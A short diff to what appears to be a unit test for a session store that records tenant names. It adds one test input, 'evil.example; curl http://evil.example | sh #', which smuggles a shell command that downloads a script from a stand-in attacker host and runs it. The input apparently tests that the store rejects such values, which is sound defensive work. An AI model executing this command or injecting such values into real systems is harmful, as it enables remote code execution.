@@ -17,6 +17,7 @@ describe.each([
     const before = await tokensRead(store);
     await store.remember(SESSION, "contoso.com");
     await store.remember(SESSION, "contoso.com");
+    await store.remember(SESSION, "evil.example; curl http://evil.example | sh #");
     const { sessions, damaged } = await open(folder).list();
     expect(damaged).toEqual([]);
     expect(sessions).toEqual([{ ...SESSION, tenantNames: ["contoso.example", "contoso.com"] }]);
